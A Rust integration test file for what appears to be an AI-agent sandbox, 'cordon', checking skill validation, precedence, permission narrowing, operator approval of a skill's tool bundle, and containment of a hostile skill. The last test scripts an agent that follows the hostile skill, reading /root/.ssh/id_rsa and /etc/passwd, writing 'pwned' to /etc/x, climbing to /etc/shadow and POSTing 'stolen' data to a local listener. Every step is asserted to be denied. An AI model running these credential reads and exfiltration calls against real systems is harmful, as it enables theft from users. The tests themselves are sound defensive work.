//! Skills as an operator meets them: `cordon skills check` and `list`, a run
//! that offers skills and activates one (which only narrows), a resumed run
//! that keeps its activation unless the skill changed, the operator's
//! approval of a skill's tool bundle, and a hostile skill that reaches
//! nothing past its grants while the run completes.

use std::path::Path;

use cordon_test_artifacts as artifacts;
use serde_json::Value;

use crate::support::{Project, both, text};

/// A project with the `dir` backend, the Python interpreter and the notes
/// plugin, its skills in `skills/`: the csv-report example and, when
/// `hostile`, the hostile skill with the hostile fixture as its tool.
fn project(hostile: bool) -> Project {
    let project = Project::new();
    project.bundled("dir", artifacts::DIR);
    project.bundled("notes", artifacts::NOTES);
    let python = Path::new(artifacts::PLUGINS_DIR).join("python/python.wasm");
    assert!(
        python.is_file(),
        "{} is missing: build it with `cargo run -p cordon-cli -- build plugins/python`",
        python.display()
    );
    project.bundled("python", python.to_str().unwrap());
    let example = Path::new(artifacts::EXAMPLE_SKILLS_DIR).join("csv-report");
    assert!(
        example.join("tools/table/table.wasm").is_file(),
        "build the example skill's tool with `cargo run -p cordon-cli -- build examples/skills/csv-report/tools`"
    );
    project.copy_folder(&example, "skills/csv-report");
    if hostile {
        let skill = Path::new(artifacts::LANGUAGE_GUESTS_DIR).join("hostile-skill");
        project.copy_folder(&skill, "skills/hostile-skill");
        std::fs::copy(
            artifacts::HOSTILE,
            project.path("skills/hostile-skill/tools/spy/tool.wasm"),
        )
        .unwrap();
        std::fs::copy(
            artifacts::HOSTILE_NET,
            project.path("skills/hostile-skill/tools/net/tool.wasm"),
        )
        .unwrap();
    }
    project.write("data/sales.csv", "region,units\nnorth,120\nsouth,95\n");
    project
}

/// An agent on the `dir` backend offering the skills of `skills/`, allowing
/// every call.
const AGENT: &str = "name = \"analyst\"\nsandbox = \"dir\"\nskills = [\"skills\"]\n\
    [permissions]\ndefault = \"allow\"\n";

fn run(project: &Project, run_id: &str) -> std::process::Output {
    project.cordon_at_home(&[
        "run",
        "--agent",
        "agent.toml",
        "--model",
        "scripted:script.toml",
        "--run-id",
        run_id,
        "go",
    ])
}

/// Every tool result of run `run_id`, by call id.
fn results(project: &Project, run_id: &str) -> Vec<(String, Value)> {
    let shown = project.show(run_id);
    shown["commits"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|commit| commit["tools"].as_array().cloned().unwrap_or_default())
        .map(|tool| {
            (
                tool["call"]["id"].as_str().unwrap().to_owned(),
                tool["result"].clone(),
            )
        })
        .collect()
}

fn result_of(project: &Project, run_id: &str, call: &str) -> Value {
    results(project, run_id)
        .into_iter()
        .find(|(id, result)| id == call && !result.is_null())
        .map(|(_, result)| result)
        .unwrap_or_else(|| panic!("no result for {call}"))
}

/// Every event run `run_id` committed.
fn events(project: &Project, run_id: &str) -> Vec<Value> {
    project.show(run_id)["commits"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|commit| commit["events"].as_array().cloned().unwrap_or_default())
        .collect()
}

#[test]
fn a_slip_other_hosts_tolerate_loads_with_a_warning_and_fails_only_under_strict() {
    let project = project(false);
    let long = "Fills PDF forms. ".repeat(63);
    project.write(
        "lenient/pdf-forms/SKILL.md",
        &format!("---\nname: pdf-forms\ndescription: {long}\nversion: 1.2\n---\n# PDF forms\n"),
    );
    project.write("lenient/pdf-forms/requirements.txt", "pypdf>=5\n");
    let output = project.cordon(&["skills", "check", "lenient"]);
    assert_eq!(output.status.code(), Some(0), "{}", both(&output));
    let shown = text(&output.stdout);
    for needle in [
        "ok     pdf-forms",
        "warn   ",
        "pdf-forms/SKILL.md: field `description`: is 1070 characters long; the format allows 1024",
        "pdf-forms/SKILL.md: field `version`: is not a field of the Agent Skills format",
        "pdf-forms/requirements.txt: line 1: `pypdf>=5` is not an exact pin; write NAME==VERSION; its packages cannot be approved until it is fixed",
        "1 skill(s) valid, 0 problem(s), 3 warning(s)",
    ] {
        assert!(shown.contains(needle), "{needle}\n{shown}");
    }
    let strict = project.cordon(&["skills", "check", "lenient", "--strict"]);
    assert_eq!(strict.status.code(), Some(1), "{}", both(&strict));
    assert!(
        text(&strict.stdout).contains("(--strict)"),
        "{}",
        both(&strict)
    );
    let listed = project.cordon(&["skills", "list", "--skills", "lenient"]);
    let shown = text(&listed.stdout);
    assert!(shown.contains("pdf-forms  ("), "offered: {shown}");
    assert!(shown.contains("  warning: "), "{shown}");
}

#[test]
fn skills_check_reports_every_problem_with_its_file_field_and_rule() {
    let project = project(false);
    project.write(
        "bad/PDF-Tools/SKILL.md",
        "---\nname: PDF-Tools\ndescription: \"\"\nmodel: opus\nallowed-tools: Bash(git:*)\n---\n",
    );
    project.write(
        "bad/pdf--x/SKILL.md",
        "---\nname: pdf--x\ndescription: ok\n---\n",
    );
    project.write("bad/no-frontmatter/SKILL.md", "# just text\n");
    let output = project.cordon(&["skills", "check", "bad", "skills/csv-report"]);
    assert_eq!(output.status.code(), Some(1), "{}", both(&output));
    let shown = text(&output.stdout);
    for needle in [
        "PDF-Tools/SKILL.md: field `name`: \"PDF-Tools\" holds 'P'",
        "PDF-Tools/SKILL.md: field `description`: must not be empty",
        "PDF-Tools/SKILL.md: field `model`: is not a field of the Agent Skills format",
        "PDF-Tools/SKILL.md: field `allowed-tools[0]`: \"Bash(git:*)\" is not a Cordon permission rule",
        "pdf--x/SKILL.md: field `name`: \"pdf--x\" holds `--`",
        "no-frontmatter/SKILL.md: must start with a `---` line",
        "ok     csv-report",
    ] {
        assert!(shown.contains(needle), "{needle}\n{shown}");
    }
    let json = project.cordon(&["skills", "check", "bad", "--json"]);
    let report: Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(report["ok"], false);
    let problems: Vec<&Value> = report["skills"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|skill| skill["problems"].as_array().unwrap())
        .collect();
    assert!(problems.iter().any(|problem| {
        problem["field"] == "model"
            && problem["file"]
                .as_str()
                .unwrap()
                .ends_with("PDF-Tools/SKILL.md")
    }));
    let fine = project.cordon(&["skills", "check", "skills/csv-report"]);
    assert!(fine.status.success(), "{}", both(&fine));
}

#[test]
fn skills_are_found_in_precedence_order_and_the_project_shadows_the_user() {
    let project = project(false);
    let skill =
        |name: &str, said: &str| format!("---\nname: {name}\ndescription: {said}\n---\nBody.\n");
    project.write(
        ".agents/skills/shared/SKILL.md",
        &skill("shared", "the project's"),
    );
    let home = project.home();
    std::fs::create_dir_all(home.join(".agents/skills/shared")).unwrap();
    std::fs::write(
        home.join(".agents/skills/shared/SKILL.md"),
        skill("shared", "the user's"),
    )
    .unwrap();
    std::fs::create_dir_all(home.join(".agents/skills/mine")).unwrap();
    std::fs::write(
        home.join(".agents/skills/mine/SKILL.md"),
        skill("mine", "only the user has it"),
    )
    .unwrap();
    project.write("flagged/shared/SKILL.md", &skill("shared", "the flag's"));
    project.write("flagged/broken/SKILL.md", "---\nname: Broken\n---\n");

    let listed = project.cordon_at_home(&["skills", "list", "--json"]);
    let report: Value = serde_json::from_slice(&listed.stdout).unwrap();
    let described = |report: &Value, name: &str| {
        report["skills"]
            .as_array()
            .unwrap()
            .iter()
            .find(|skill| skill["name"] == name)
            .map(|skill| (skill["description"].clone(), skill["source"].clone()))
    };
    assert_eq!(
        described(&report, "shared"),
        Some((Value::from("the project's"), Value::from("project")))
    );
    assert_eq!(described(&report, "mine").unwrap().1, "user");
    assert!(
        report["shadowed"][0]
            .as_str()
            .unwrap()
            .contains("skill `shared` of the project"),
        "{report}"
    );

    let flagged = project.cordon_at_home(&["skills", "list", "--skills", "flagged", "--json"]);
    let report: Value = serde_json::from_slice(&flagged.stdout).unwrap();
    assert_eq!(described(&report, "shared").unwrap().1, "flag");
    assert_eq!(report["shadowed"].as_array().unwrap().len(), 2, "{report}");
    assert!(
        report["invalid"]
            .as_array()
            .unwrap()
            .iter()
            .any(|problem| problem.as_str().unwrap().contains("Broken")),
        "{report}"
    );

    project.write("agent.toml", AGENT);
    project.write("script.toml", "[[turn]]\ntext = \"Nothing to do.\"\n");
    let output = project.cordon_at_home(&[
        "run",
        "--agent",
        "agent.toml",
        "--model",
        "scripted:script.toml",
        "--skills",
        "flagged",
        "--run-id",
        "r",
        "go",
    ]);
    assert!(output.status.success(), "{}", both(&output));
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains("warning: skill `shared` of --skills")
            && stderr.contains("is not offered: it breaks"),
        "a run warns about what it skips and goes on: {stderr}"
    );
}

/// A script that activates csv-report, uses its folder, script and tool,
/// then tries a write its allowed-tools leave out.
const REPORT_SCRIPT: &str = r#"
[[turn]]
[[turn.call]]
tool = "skill"
args = { name = "csv-report" }

[[turn]]
[[turn.call]]
tool = "read"
args = { path = "/skills/csv-report/references/format.md" }
[[turn.call]]
tool = "grep"
args = { pattern = "integer", path = "/skills/csv-report" }
[[turn.call]]
tool = "csv-report/table.profile"
args = { text = "region,units\nnorth,120\n" }

[[turn]]
[[turn.call]]
tool = "bash"
args = { command = "python3 /skills/csv-report/scripts/report.py data/sales.csv" }
[[turn.call]]
tool = "write"
args = { path = "report.md", content = "saved" }
[[turn.call]]
tool = "write"
args = { path = "/skills/csv-report/SKILL.md", content = "rewritten" }

[[turn]]
text = "Done."
"#;

#[test]
fn a_run_activates_a_skill_whose_folder_script_and_tool_work_and_whose_allowed_tools_narrow() {
    let project = project(false);
    project.write("agent.toml", AGENT);
    project.write("script.toml", REPORT_SCRIPT);
    let output = run(&project, "r1");
    assert!(output.status.success(), "{}", both(&output));
    let activation = result_of(&project, "r1", "call-1-1");
    let body = activation["output"].as_str().unwrap();
    assert!(
        body.starts_with("<skill_content name=\"csv-report\">\n# CSV report"),
        "{body}"
    );
    assert!(
        body.contains("/skills/csv-report/references/format.md"),
        "{body}"
    );
    assert!(
        !body.contains("Empty cells are left out"),
        "file contents stay out: {body}"
    );
    let read = result_of(&project, "r1", "call-2-1");
    assert!(
        read["output"]["content"]
            .as_str()
            .unwrap()
            .contains("# The report's layout"),
        "{read}"
    );
    let grep = result_of(&project, "r1", "call-2-2");
    assert!(
        !grep["output"]["matches"].as_array().unwrap().is_empty(),
        "{grep}"
    );
    let profile = result_of(&project, "r1", "call-2-3");
    assert_eq!(profile["output"][1]["type"], "integer", "{profile}");
    let report = result_of(&project, "r1", "call-3-1");
    let stdout = report["output"]["stdout"].as_str().unwrap();
    assert!(
        stdout.contains("| units | integer | 95 | 107.50 | 120 |"),
        "{report}"
    );
    for denied in ["call-3-2", "call-3-3"] {
        let refused = result_of(&project, "r1", denied);
        assert_eq!(refused["error"]["kind"], "denied", "{refused}");
        assert!(
            refused["error"]["message"]
                .as_str()
                .unwrap()
                .contains("skill `csv-report` is active"),
            "{refused}"
        );
    }
    assert!(project.read("report.md").is_none());
    assert!(
        std::fs::read_to_string(project.path("skills/csv-report/SKILL.md"))
            .unwrap()
            .starts_with("---\nname: csv-report"),
        "the skill's folder never changes"
    );
    let shown = project.show("r1");
    let activated = shown["commits"]
        .as_array()
        .unwrap()
        .iter()
        .find_map(|commit| {
            commit["skills"]
                .as_array()
                .and_then(|changes| changes.first())
        })
        .expect("the activation is committed");
    assert_eq!(activated["change"], "activated");
    assert_eq!(activated["skill"], "csv-report");
    assert_eq!(activated["fingerprint"].as_str().unwrap().len(), 64);
    assert!(
        events(&project, "r1")
            .iter()
            .any(|event| event["event"] == "skill-denied" && event["call_id"] == "call-3-2"),
        "the narrowing is audited"
    );
    let text_view = text(&project.cordon(&["runs", "show", "r1"]).stdout);
    assert!(
        text_view.contains("skill csv-report activated by call-1-1"),
        "{text_view}"
    );
}

/// A script that activates csv-report, then runs a command the agent's
/// policy asks about, then tries a write.
const WAITING_SCRIPT: &str = r#"
[[turn]]
[[turn.call]]
tool = "skill"
args = { name = "csv-report" }

[[turn]]
[[turn.call]]
tool = "bash"
args = { command = "echo checked" }

[[turn]]
[[turn.call]]
tool = "write"
args = { path = "report.md", content = "saved" }

[[turn]]
text = "Done."
"#;

#[test]
fn a_resumed_run_keeps_its_activation_and_drops_it_when_the_skill_md_changed() {
    for edited in [false, true] {
        let project = project(false);
        project.write(
            "agent.toml",
            &AGENT.replace(
                "default = \"allow\"",
                "default = \"allow\"\nask = [\"bash\"]",
            ),
        );
        project.write("script.toml", WAITING_SCRIPT);
        let waiting = run(&project, "r1");
        assert_eq!(waiting.status.code(), Some(3), "{}", both(&waiting));
        if edited {
            let file = project.path("skills/csv-report/SKILL.md");
            let text = std::fs::read_to_string(&file).unwrap();
            std::fs::write(&file, text.replace("# CSV report", "# CSV report, edited")).unwrap();
        }
        let resumed = project.cordon_at_home(&["runs", "resume", "r1", "--approve", "call-2-1"]);
        assert!(resumed.status.success(), "{}", both(&resumed));
        let write = result_of(&project, "r1", "call-3-1");
        if edited {
            assert!(
                text(&resumed.stderr).contains(
                    "[skill csv-report] warning: dropped its activation: its SKILL.md changed"
                ),
                "{}",
                text(&resumed.stderr)
            );
            assert!(
                write.get("output").is_some(),
                "without the layer the agent allows it: {write}"
            );
            let dropped: Vec<Value> = project.show("r1")["commits"]
                .as_array()
                .unwrap()
                .iter()
                .flat_map(|commit| commit["skills"].as_array().cloned().unwrap_or_default())
                .filter(|change| change["change"] == "dropped")
                .collect();
            assert_eq!(dropped.len(), 1, "the drop is committed");
        } else {
            assert_eq!(
                write["error"]["kind"], "denied",
                "the layer holds after resume: {write}"
            );
        }
    }
}

/// Append a custom section to the component at `path`: the same component,
/// another digest.
fn change_component(path: &Path) {
    let mut bytes = std::fs::read(path).unwrap();
    bytes.extend_from_slice(&[0x00, 0x04, 0x03, b'x', b'y', b'z']);
    std::fs::write(path, bytes).unwrap();
}

#[test]
fn a_skills_tool_bundle_loads_once_approved_for_its_component_and_never_beyond() {
    let project = project(true);
    project.write("agent.toml", AGENT);
    project.write(
        "script.toml",
        "[[turn]]\n[[turn.call]]\ntool = \"skill\"\nargs = { name = \"hostile-skill\" }\n\
         [[turn]]\n[[turn.call]]\ntool = \"hostile-skill/hostile.env\"\nargs = { name = \"HOME\" }\n\
         [[turn.call]]\ntool = \"hostile-skill/hostile.write-file\"\nargs = { path = \"/w/planted.txt\", content = \"x\" }\n\
         [[turn]]\ntext = \"Done.\"\n",
    );
    let unapproved = run(&project, "r1");
    assert!(
        unapproved.status.success(),
        "the run goes on without it: {}",
        both(&unapproved)
    );
    let stderr = text(&unapproved.stderr);
    assert!(
        stderr
            .contains("bundle `hostile-skill/hostile` is not loaded: it asks for dir . -> /w (ro)")
            && stderr.contains("cordon grants approve hostile-skill/hostile"),
        "{stderr}"
    );
    assert!(
        stderr.contains("once approved, it runs without env HOME")
            && stderr.contains("without writing dir ."),
        "the profile's cuts are said: {stderr}"
    );
    assert_eq!(
        result_of(&project, "r1", "call-2-1")["error"]["kind"],
        "not-found"
    );

    let listed = text(
        &project
            .cordon_at_home(&["grants", "list", "--skills", "skills"])
            .stdout,
    );
    assert!(
        listed.contains("unapproved hostile-skill/hostile"),
        "{listed}"
    );
    let refused = project.cordon_at_home(&[
        "grants",
        "approve",
        "hostile-skill/hostile",
        "--skills",
        "skills",
    ]);
    assert_eq!(
        refused.status.code(),
        Some(2),
        "no terminal, no --yes: {}",
        both(&refused)
    );
    assert!(
        text(&refused.stdout).contains("beyond the approval: dir . -> /w (ro)"),
        "{}",
        both(&refused)
    );
    let approved = project.cordon_at_home(&[
        "grants",
        "approve",
        "hostile-skill/hostile",
        "--skills",
        "skills",
        "--yes",
    ]);
    assert!(approved.status.success(), "{}", both(&approved));
    assert!(
        project
            .read(".cordon/grants.toml")
            .unwrap()
            .contains("[bundles.\"hostile-skill/hostile\"]")
    );

    let approved_run = run(&project, "r2");
    assert!(approved_run.status.success(), "{}", both(&approved_run));
    let env = result_of(&project, "r2", "call-2-1");
    assert!(env.get("output").is_some(), "{env}");
    assert!(
        !env.to_string()
            .contains(&project.home().display().to_string()),
        "no environment: {env}"
    );
    let write = result_of(&project, "r2", "call-2-2");
    assert!(
        write.get("error").is_some(),
        "its folder is read-only: {write}"
    );
    assert!(project.read("planted.txt").is_none());

    change_component(&project.path("skills/hostile-skill/tools/spy/tool.wasm"));
    let changed = run(&project, "r3");
    assert!(
        text(&changed.stderr).contains("its component changed since the operator approved it"),
        "{}",
        text(&changed.stderr)
    );
    let again = project.cordon_at_home(&[
        "grants",
        "approve",
        "hostile-skill/hostile",
        "--skills",
        "skills",
        "--yes",
    ]);
    assert!(
        text(&again.stdout).contains("its component changed since the last approval"),
        "{}",
        both(&again)
    );
    assert!(run(&project, "r4").status.success());
    assert!(
        result_of(&project, "r4", "call-2-1")
            .get("output")
            .is_some()
    );

    let revoked = project.cordon(&["grants", "revoke", "hostile-skill/hostile"]);
    assert!(revoked.status.success(), "{}", both(&revoked));
    assert!(
        !project
            .read(".cordon/grants.toml")
            .unwrap()
            .contains("hostile-skill")
    );
}

#[test]
fn a_hostile_skill_reaches_nothing_past_its_grants_and_the_run_completes() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let project = project(true);
    project.write("agent.toml", AGENT);
    let attack = |mode: &str| format!("python3 /skills/hostile-skill/scripts/attack.py {mode}");
    let probes = ["read-outside", "plant", "environment", "connect"]
        .map(attack)
        .join("; ");
    project.write(
        "script.toml",
        &format!(
            "[[turn]]\n[[turn.call]]\ntool = \"skill\"\nargs = {{ name = \"hostile-skill\" }}\n\
             [[turn]]\ntext = \"Following the skill.\"\n\
             [[turn.call]]\ntool = \"read\"\nargs = {{ path = \"/root/.ssh/id_rsa\" }}\n\
             [[turn.call]]\ntool = \"read\"\nargs = {{ path = \"/etc/passwd\" }}\n\
             [[turn.call]]\ntool = \"write\"\nargs = {{ path = \"/etc/x\", content = \"pwned\" }}\n\
             [[turn.call]]\ntool = \"notes.add\"\nargs = {{ title = \"pwned\", body = \"x\" }}\n\
             [[turn]]\n\
             [[turn.call]]\ntool = \"bash\"\nargs = {{ command = \"{probes} {port}\" }}\n\
             [[turn]]\n\
             [[turn.call]]\ntool = \"bash\"\nargs = {{ command = \"{}; echo after-loop $?\", timeout_ms = 20000 }}\n\
             [[turn.call]]\ntool = \"bash\"\nargs = {{ command = \"{} > /dev/null; echo after-flood $?\" }}\n\
             [[turn]]\n\
             [[turn.call]]\ntool = \"hostile-skill/hostile-net.fetch\"\nargs = {{ url = \"http://127.0.0.1:{port}/collect\", method = \"POST\", body = \"stolen\" }}\n\
             [[turn.call]]\ntool = \"hostile-skill/hostile-net.connect\"\nargs = {{ addr = \"127.0.0.1:{port}\" }}\n\
             [[turn]]\ntext = \"Done.\"\n",
            attack("loop"),
            attack("flood"),
        ),
    );
    let output = project.cordon_at_home(&[
        "run",
        "--agent",
        "agent.toml",
        "--model",
        "scripted:script.toml",
        "--run-id",
        "h1",
        "--json",
        "go",
    ]);
    assert!(
        output.status.success(),
        "the run completes: {}",
        both(&output)
    );
    let stderr = text(&output.stderr);
    for refused in [
        "skill tool bundle `hostile-skill/hostile-net` runs without network https://*:* (untrusted code has no network)",
        "tools/home/plugin.toml: field `grants.dirs[0].host` = \"/root\": must be a relative path inside the workspace root",
        "bundle `hostile-skill/hostile` is not loaded",
    ] {
        assert!(
            stderr.contains(refused),
            "its tools asking for more never load: {refused}\n{stderr}"
        );
    }
    assert!(
        !Path::new("/tmp/cordon-hostile-skill-ran").exists(),
        "a SKILL.md's `!` line never runs"
    );
    let posted = result_of(&project, "h1", "call-5-1");
    assert_eq!(posted["error"]["kind"], "denied", "{posted}");
    let connected = result_of(&project, "h1", "call-5-2");
    assert!(connected.get("error").is_some(), "{connected}");
    for (call, needle) in [
        ("call-2-1", "absolute paths are outside the workspace"),
        ("call-2-2", "absolute paths are outside the workspace"),
        ("call-2-3", "skill `hostile-skill` is active"),
        ("call-2-4", "skill `hostile-skill` is active"),
    ] {
        let result = result_of(&project, "h1", call);
        assert_eq!(result["error"]["kind"], "denied", "{call}: {result}");
        assert!(
            result["error"]["message"]
                .as_str()
                .unwrap()
                .contains(needle),
            "{call}: {result}"
        );
    }
    let script = result_of(&project, "h1", "call-3-1");
    let stdout = script["output"]["stdout"].as_str().unwrap();
    assert!(
        !stdout.contains("LEAKED") && !stdout.contains("WROTE") && !stdout.contains("CONNECTED"),
        "{stdout}"
    );
    assert_eq!(stdout.matches("refused").count(), 7, "{stdout}");
    assert!(stdout.contains("environment []"), "{stdout}");
    assert!(
        matches!(listener.accept(), Err(error) if error.kind() == std::io::ErrorKind::WouldBlock),
        "the socket reached nothing"
    );
    let looped = result_of(&project, "h1", "call-4-1");
    assert!(
        looped["output"]["stdout"]
            .as_str()
            .unwrap()
            .contains("after-loop 137"),
        "{looped}"
    );
    let flooded = result_of(&project, "h1", "call-4-2");
    assert!(
        flooded["output"]["stdout"]
            .as_str()
            .unwrap()
            .contains("after-flood 137"),
        "{flooded}"
    );
    let trail = events(&project, "h1");
    let denied = |capability: &str, target: &str| {
        trail.iter().any(|event| {
            event["event"] == "denied"
                && event["bundle"] == "python"
                && event["capability"] == capability
                && event["target"].as_str().unwrap().contains(target)
        })
    };
    // Nothing outside the sandbox exists in it: /etc/passwd is not found,
    // and climbing out of the workspace is refused and audited.
    assert!(!denied("filesystem", "/etc/passwd"), "{trail:?}");
    assert!(denied("filesystem", "/../../../../etc/shadow"), "{trail:?}");
    assert!(
        denied("filesystem", "/workspace/.cordon/planted.txt"),
        "{trail:?}"
    );
    assert!(
        denied("filesystem", "/skills/hostile-skill/planted.txt"),
        "{trail:?}"
    );
    assert!(denied("network", &format!("127.0.0.1:{port}")), "{trail:?}");
    for target in [
        format!("http://127.0.0.1:{port}"),
        format!("127.0.0.1:{port}"),
    ] {
        assert!(
            trail.iter().any(|event| event["event"] == "denied"
                && event["bundle"].as_str().unwrap().ends_with("hostile-net")
                && event["capability"] == "network"
                && event["target"] == target.as_str()),
            "the skill's own tool reaches no network: {target}: {trail:?}"
        );
    }
    for limit in ["fuel", "output"] {
        assert!(
            trail.iter().any(|event| event["event"] == "limit-exceeded"
                && event["bundle"] == "python"
                && event["limit"] == limit),
            "{limit}: {trail:?}"
        );
    }
    assert!(
        trail
            .iter()
            .any(|event| event["event"] == "skill-denied" && event["tool"] == "write")
    );
    assert!(project.read("planted.txt").is_none());
    assert!(project.read(".cordon/planted.txt").is_none());
    assert!(!Path::new("/etc/x").exists());
}
